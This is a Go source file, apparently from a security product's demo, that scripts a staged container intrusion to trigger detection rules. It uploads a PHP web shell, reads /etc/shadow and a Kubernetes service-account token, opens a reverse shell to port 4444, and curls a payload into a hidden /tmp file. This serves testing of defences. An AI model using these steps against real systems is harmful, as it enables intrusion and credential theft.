package intrusion

import (
	"bytes"
	"context"
	_ "embed"
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"net/url"
	"os"
	"strings"
	"time"

	"github.com/seawall-security/seawall/tools/demo/stage"
)

// shell is what the attacker uploads: it runs a command, or connects a shell back.
//
//go:embed shell.php
var shell []byte

// backTimeout bounds the wait for the shell that connects back.
const backTimeout = 20 * time.Second

// knob is the file of the try at the kernel.
const knob = "/proc/sys/kernel/core_pattern"

// attacker comes through the shop's upload form.
type attacker struct {
	browser
	set   *stage.Stage
	actor string // path of the actor's binary on this host
}

// Steps is the break-in. The actor is the static binary of tools/attack. The last
// step is one that any rule set for containers sees: whoever waits for detections
// has them all when that one's has come.
func Steps(set *stage.Stage, actor string) []Step {
	a := &attacker{browser: browser{client: set.HTTP(stage.Attacker), shop: set.URL()}, set: set, actor: actor}
	return []Step{
		{"upload a script as a picture", func(ctx context.Context) error { return a.upload(ctx, "shell.php", shell) }},
		{"ask who the server is", func(ctx context.Context) error { return a.expectRun(ctx, "id", "uid=33(www-data)") }},
		{"try to read the password hashes", func(ctx context.Context) error {
			return a.expectRun(ctx, "cat /etc/shadow", "Permission denied")
		}},
		{"read the service account's token", func(ctx context.Context) error {
			return a.expectRun(ctx, "cat /var/run/secrets/kubernetes.io/serviceaccount/token", stage.Token)
		}},
		{"connect a shell back", a.connectBack},
		{"fetch a payload", a.fetchPayload},
		{"run the payload: make written memory executable", func(ctx context.Context) error {
			result, err := a.act(ctx, "mprotect")
			if err == nil && result != "ok" {
				err = fmt.Errorf("the payload could not: %s", result)
			}
			return err
		}},
		{"run the payload: try a kernel knob", a.tryKnob},
		{"enter with a terminal", func(ctx context.Context) error {
			typed, err := set.ExecTerminal(ctx, "id\nexit\n", "/bin/sh")
			return errors.Join(err, expect(typed, "uid=33(www-data)"))
		}},
	}
}

// run has the uploaded script run a command and returns its output, errors
// included, and then "status=" and its exit code.
func (a *attacker) run(ctx context.Context, command string) (string, error) {
	return a.get(ctx, "/uploads/shell.php?"+url.Values{"cmd": {command}}.Encode())
}

func (a *attacker) expectRun(ctx context.Context, command, word string) error {
	output, err := a.run(ctx, command)
	if err != nil {
		return err
	}
	return expect(output, word)
}

// connectBack has the script connect a shell to the attacker, who asks it one thing.
func (a *attacker) connectBack(ctx context.Context) error {
	address := netip.AddrPortFrom(stage.Attacker, 4444)
	listener, err := a.set.Listen(address)
	if err != nil {
		return fmt.Errorf("listen for the shell: %w", err)
	}
	defer listener.Close()
	ctx, cancel := context.WithTimeout(ctx, backTimeout)
	defer cancel()
	requested := make(chan error, 1)
	// Ends with the shell, or with the context.
	go func() {
		_, err := a.get(ctx, "/uploads/shell.php?"+url.Values{"back": {address.String()}}.Encode())
		if err != nil {
			listener.Close() // nobody will come
		}
		requested <- err
	}()
	output, err := converse(ctx, listener, "id\nexit\n")
	if err == nil {
		err = expect(output, "uid=33(www-data)")
	}
	if err != nil {
		cancel()
	}
	return errors.Join(err, <-requested)
}

// fetchPayload has the container download the actor and make it executable.
func (a *attacker) fetchPayload(ctx context.Context) error {
	payload, err := os.ReadFile(a.actor)
	if err != nil {
		return fmt.Errorf("read the payload: %w", err)
	}
	stop, err := serve(a.set, netip.AddrPortFrom(stage.Attacker, 80), "/update", payload)
	if err != nil {
		return err
	}
	defer stop()
	return a.expectRun(ctx, "curl -fsS -o /tmp/.update http://"+stage.Attacker.String()+"/update && chmod +x /tmp/.update", "status=0")
}

// act runs the payload, which tells in one line of JSON what it did and how that
// went: ok, or the error.
func (a *attacker) act(ctx context.Context, action string, args ...string) (result string, err error) {
	output, err := a.run(ctx, strings.Join(append([]string{"/tmp/.update", action}, args...), " "))
	if err != nil {
		return "", err
	}
	line, _, _ := strings.Cut(output, "\n")
	var told struct{ Action, Result string }
	if err := json.Unmarshal([]byte(line), &told); err != nil || told.Action != action {
		return "", fmt.Errorf("the payload did not tell what it did: %.400s", output)
	}
	return told.Result, nil
}

// tryKnob tries to open a kernel knob for writing. The container's user may not,
// and if it were root, its /proc/sys is read-only.
func (a *attacker) tryKnob(ctx context.Context) error {
	before, err := os.ReadFile(knob)
	if err != nil {
		return fmt.Errorf("read the knob: %w", err)
	}
	result, err := a.act(ctx, "knob", knob)
	if err != nil {
		return err
	}
	if !strings.Contains(result, "denied") && !strings.Contains(result, "read-only") {
		return fmt.Errorf("the knob was not refused: %s", result)
	}
	after, err := os.ReadFile(knob)
	if err == nil && !bytes.Equal(before, after) {
		err = fmt.Errorf("the knob changed from %q to %q", before, after)
	}
	return err
}
